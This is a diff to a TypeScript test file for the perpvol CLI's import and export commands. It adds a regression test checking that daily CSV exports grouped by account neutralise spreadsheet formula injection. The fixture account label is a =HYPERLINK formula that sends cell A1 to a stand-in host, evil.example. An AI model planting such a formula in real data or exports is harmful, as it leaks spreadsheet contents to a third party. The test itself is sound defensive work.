@@ -13,6 +13,8 @@ import { startTestServer, type TestServer } from '../server/harness.ts';
 import { makeTempDir, openTestCore, TEST_MASTER_KEY } from '../sync/fixtures/sync-harness.ts';
 import { runPerpvol } from '../support/perpvol-cli.ts';
 
+/** A label a spreadsheet would run as a formula: exports must write it as text. */
+const FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Bybit")';
 const FIXTURES = fileURLToPath(new URL('../import/fixtures/', import.meta.url));
 
 /** A Bybit export of `rows` fills, one a minute from 2024-11-16 00:00 UTC. */
@@ -34,7 +36,7 @@ describe('perpvol import and export', () => {
     dir = await makeTempDir('perpvol-cli-import-');
     env = { PERPVOL_DATA_DIR: dir.path, PERPVOL_MASTER_KEY: TEST_MASTER_KEY, PERPVOL_SECRET_STORE: 'file', PERPVOL_DATABASE_URL: '' };
     const core = await openTestCore(dir.path);
-    const account = await core.service.addAccount({ exchange: 'bybit', label: 'Bybit', credentials: { apiKey: 'k', apiSecret: 's' }, validate: false });
+    const account = await core.service.addAccount({ exchange: 'bybit', label: FORMULA_LABEL, credentials: { apiKey: 'k', apiSecret: 's' }, validate: false });
     accountId = account.id;
     await core.close();
   });
@@ -107,6 +109,12 @@ describe('perpvol import and export', () => {
       assert.equal(daily.code, 0, daily.stderr);
       assert.equal(daily.stdout, restDaily.text);
       assert.match(daily.stdout, /^2024-11-16,BTCUSDT,BTCUSDT,/m);
+
+      const byAccount = await runPerpvol(['export', 'daily', '--from', '2024-11-16', '--to', '2024-11-16', '--group-by', 'account'], env);
+      const restByAccount = await server.call('GET', '/api/v1/export/daily.csv?from=2024-11-16&to=2024-11-16&groupBy=account');
+      assert.equal(byAccount.code, 0, byAccount.stderr);
+      assert.equal(byAccount.stdout, restByAccount.text);
+      assert.ok(byAccount.stdout.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Bybit"") (Bybit)",`), 'the formula label is written as text');
     });
 
     test('export fills --exchange keeps only that exchange’s rows', async () => {
